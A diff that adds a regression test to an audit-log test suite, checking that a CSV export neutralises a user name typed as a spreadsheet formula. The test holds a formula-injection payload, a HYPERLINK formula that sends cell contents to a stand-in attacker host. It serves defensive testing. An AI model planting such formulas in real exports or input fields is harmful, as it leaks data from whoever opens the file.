@@ -54,3 +54,22 @@ def test_only_admin_and_hos_read_the_audit(state, role) -> None:
 
 def test_every_recorded_action_has_a_label() -> None:
     assert {"sign_in", "sign_in_failed", "lock_out", "child_level_view", "export", "upload"} <= set(audit.ACTIONS)
+
+
+def test_a_user_name_typed_as_a_formula_is_text_in_the_audit_csv(tmp_path) -> None:
+    """Review: a failed sign-in with the user name =HYPERLINK(...) went into the Audit page's CSV raw, a live
+    formula when the administrator opened it. The one CSV writer quotes it as text."""
+    import csv
+    import io
+
+    from raa_core import appstate, export
+    from raa_core.appstate import AppState
+    from raa_core.requests import Viewer
+
+    state = AppState(tmp_path / "appstate.sqlite3")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    appstate.record(state, actor=evil, action="sign_in_failed", page="sign-in")
+    events = audit.events(state, Viewer(user="admin", role="admin", la_code=None))
+    rows = list(csv.reader(io.StringIO(export.table_csv(events).decode("utf-8-sig"))))
+    actor = rows[0].index("actor")
+    assert rows[1][actor] == "'" + evil
